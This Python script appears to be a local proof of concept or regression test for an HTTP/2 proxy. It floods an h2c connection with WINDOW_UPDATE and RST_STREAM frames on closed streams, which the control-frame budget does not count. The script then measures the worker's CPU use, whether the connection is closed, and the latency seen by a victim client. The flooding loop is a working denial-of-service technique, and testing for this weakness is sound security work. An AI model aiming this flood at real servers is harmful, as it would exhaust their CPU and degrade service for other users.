"""Frames that spend from no HTTP/2 budget: WINDOW_UPDATE (connection or stream) and
RST_STREAM / WINDOW_UPDATE on a stream that is already closed.  h2 parses each one in Python
(~17 us), so a client trickling ~1.3 MB/s of them keeps one worker's CPU busy for as long as it
likes; the connection is never closed (the control budget is 500 + 100/s).  h2c listener,
1 worker; the victim is a keep-alive HTTP/1.1 client of the same worker."""
import socket, struct, time, psutil
from h import PREFACE, Backend, Victim, frame, frames_in, ok_script, read_all, start_proxy
from hpack import Encoder

be = Backend(ok_script)
p = start_proxy([{"path": "/", "to": f"http://127.0.0.1:{be.port}/"}],
                listen=lambda port: [{"address": f"127.0.0.1:{port}", "http2": "h2c"}])
wpid = p.worker_pids()[0]
proc = psutil.Process(wpid)
hb = Encoder().encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")])
CASES = {
    "WINDOW_UPDATE stream 0, +1": frame(8, 0, 0, struct.pack(">I", 1)),
    "RST_STREAM on closed stream 1": frame(3, 0, 1, struct.pack(">I", 8)),
    "WINDOW_UPDATE on closed stream 1": frame(8, 0, 1, struct.pack(">I", 1)),
}
v = Victim(p.port)
time.sleep(1.0)
print(f"victim idle worst latency: {v.worst()[0]:.1f} ms")
for name, unit in CASES.items():
    s = socket.create_connection(("127.0.0.1", p.port))
    s.sendall(PREFACE + frame(4, 0, 0) + frame(1, 5, 1, hb))     # stream 1: a GET, answered and closed
    time.sleep(0.3)
    read_all(s, 0.2)
    burst = unit * (64 * 1024 // len(unit))
    cpu0, t0 = sum(proc.cpu_times()[:2]), time.time()
    sent, alive = 0, True
    while time.time() - t0 < 3.0:
        try:
            s.sendall(burst)
        except OSError:
            alive = False
            break
        sent += len(burst)
        time.sleep(0.05)
    took = time.time() - t0
    cpu = sum(proc.cpu_times()[:2]) - cpu0
    s.settimeout(0.5)
    try:
        tail = s.recv(65536)
    except socket.timeout:
        tail = b"(nothing: open)"
    except OSError as e:
        tail = repr(e).encode()
    goaway = [t for t, *_ in frames_in(tail) if t == 7]
    worst, n = v.worst(since=t0)
    print(f"{name}: {sent // len(unit)} frames ({sent >> 10} KiB) in {took:.1f} s; worker CPU {cpu:.2f} s "
          f"({100 * cpu / took:.0f}%); connection {'still open' if alive and not goaway and tail[:1] != b'' else 'closed'}"
          f" (GOAWAY: {bool(goaway)}); victim worst {worst:.0f} ms over {n} requests")
    s.close()
v.stop()
p.stop()
